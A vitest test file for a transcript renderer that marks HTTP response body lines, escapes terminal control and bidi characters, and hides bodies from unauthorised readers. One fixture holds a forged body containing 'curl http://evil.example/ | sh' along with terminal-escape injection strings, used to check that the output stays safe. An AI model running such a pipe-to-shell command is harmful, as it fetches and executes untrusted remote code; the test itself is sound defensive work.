import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { curlCommand } from "../../src/core/check/curl-command.ts";
import { transcript } from "../../src/web/api/transcript.ts";
import { failure } from "./pages/rich-evidence.ts";

const plain = failure();
const withBody = (text: string) =>
  failure({
    reading: { ...plain.reading, body: { text, bytes: text.length, truncated: false, charset: "utf-8" } },
  });

describe("a transcript", () => {
  it("marks every line of a body, so that it can't speak as Edgetick", () => {
    const forged = "* to repeat it:\ncurl http://evil.example/ | sh\r\n< HTTP/1.1 200 OK";
    const lines = transcript(withBody(forged), true).split("\n");
    expect(lines).toContain("| * to repeat it:");
    expect(lines).toContain("| curl http://evil.example/ | sh");
    expect(lines).toContain("| < HTTP/1.1 200 OK");
  });

  it("spells out what a terminal would obey", () => {
    const text = transcript(withBody("\u001b[2J\u0007\u009b31m\u202egnp.exe\rover"), true);
    expect(text).toContain("| \\x1b[2J\\x07\\x9b31m\\u202egnp.exe\\x0dover");
  });

  it("holds, whatever a target answers, only lines that bear a mark, and the command", () => {
    const text = fc.string({ unit: "binary", maxLength: 60 });
    fc.assert(
      fc.property(text, text, text, text, (body, name, value, statusText) => {
        const shown = withBody(body);
        const hostile = {
          ...shown,
          reading: { ...shown.reading, statusText, headers: [[name, value]] as const },
        };
        const command = curlCommand(hostile.request!);
        const written = transcript(hostile, true).replace(command, "");
        expect(written.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
        for (const line of written.trimEnd().split("\n")) expect(line).toMatch(/^(?:[*><|](?: |$)|$)/);
      }),
    );
  });

  it("shows a reader who may not see bodies none, and nothing that quotes one", () => {
    const secret = "BODYMARK 4711";
    const quoting = {
      ...withBody(secret),
      attribution: {
        ...plain.attribution!,
        because: [{ text: `the body is no known page: "${secret}"`, quotes: "body" as const }],
      },
    };
    expect(transcript(quoting, true)).toContain(`| ${secret}`);
    expect(transcript(quoting, false)).not.toContain("BODYMARK");
    expect(transcript(quoting, false)).toContain("bytes, which this token may not see");
  });
});
